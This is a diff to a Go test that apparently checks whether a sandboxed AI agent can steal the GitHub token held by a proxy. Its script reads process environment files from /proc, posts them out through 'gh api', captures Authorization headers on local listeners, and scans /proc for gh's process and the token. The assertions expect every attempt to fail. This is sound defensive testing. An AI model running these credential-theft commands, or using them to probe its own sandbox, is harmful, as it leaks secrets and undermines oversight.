@@ -72,10 +72,18 @@ while True:
 		"set +e",
 		"d=$(mktemp -d)",
 		"cat > $d/l.py <<'PY'\n" + listener + "PY",
-		"python3 $d/l.py 127.0.0.1 9911 $d/got & python3 $d/l.py 172.30.0.50 9912 $d/got &",
+		"python3 $d/l.py 127.0.0.1 9911 $d/got & l1=$!; python3 $d/l.py 172.30.0.50 9912 $d/got & l2=$!",
 		"sleep 0.5",
 		"echo difc: $(gh api /user)",
 		"for f in /proc/self/environ /proc/thread-self/environ /dev/fd/../environ /proc/1/environ; do gh api -X POST /user --input $f; gh api /user -F q=@$f; done",
+		// gh blocked on a FIFO of the agent's: is it visible from here?
+		"chmod 755 $d; mkfifo -m 666 $d/fifo",
+		"gh api -X POST /user --input $d/fifo > $d/fifo.out 2>&1 & g=$!",
+		"sleep 1",
+		"echo ghproc: $(for p in /proc/[0-9]*; do stat -c '%u %n' $p; done 2>/dev/null | grep -v '^1000 ' | grep -v '^0 ' | tr '\\n' ' ')",
+		probe("grep", reverse(token), "/proc"),
+		"echo '{}' > $d/fifo; wait $g",
+		"echo fifo: $(cat $d/fifo.out)",
 		"echo authtok: $(gh --hostname - auth token 2>&1)",
 		"echo emptytok: $(gh '' auth token 2>&1)",
 		"gh api http://127.0.0.1:9911/a >/dev/null 2>&1",
@@ -85,12 +93,22 @@ while True:
 		"gh api -H 'Host: x' http://[::ffff:127.0.0.1]:9911/e >/dev/null 2>&1",
 		"echo got: $(cat $d/got 2>/dev/null | tr -d \"\\r\" | grep -a -i authorization)",
 		"echo heads: $(grep -a -c '^GET' $d/got 2>/dev/null)",
+		"kill $l1 $l2",
 	}, "\n")
 	r := awf(t, []string{"GH_TOKEN=" + token, "GITHUB_REPOSITORY=octo/repo"},
 		"--difc-proxy-host", "host.docker.internal:"+strconv.Itoa(port), "--difc-proxy-ca-cert", caFile, "--", script)
 	got := lines(r.stdout)
 	if !strings.Contains(got["difc"], `"login":"octocat"`) {
 		t.Errorf("gh through the DIFC proxy: %q", got["difc"])
+	}
+	if !strings.Contains(got["fifo"], `"echo":"{}`) {
+		t.Errorf("gh did not read the agent's FIFO (so it was not running during the scan): %q", got["fifo"])
+	}
+	if got["ghproc"] != "" {
+		t.Errorf("the agent sees gh's process: %q", got["ghproc"])
+	}
+	if !strings.Contains(r.stdout, "ok absent") {
+		t.Errorf("the token is in the agent's /proc while gh runs")
 	}
 	for _, k := range []string{"authtok", "emptytok"} {
 		if !strings.Contains(got[k], "Subcommand 'auth' is not permitted") {
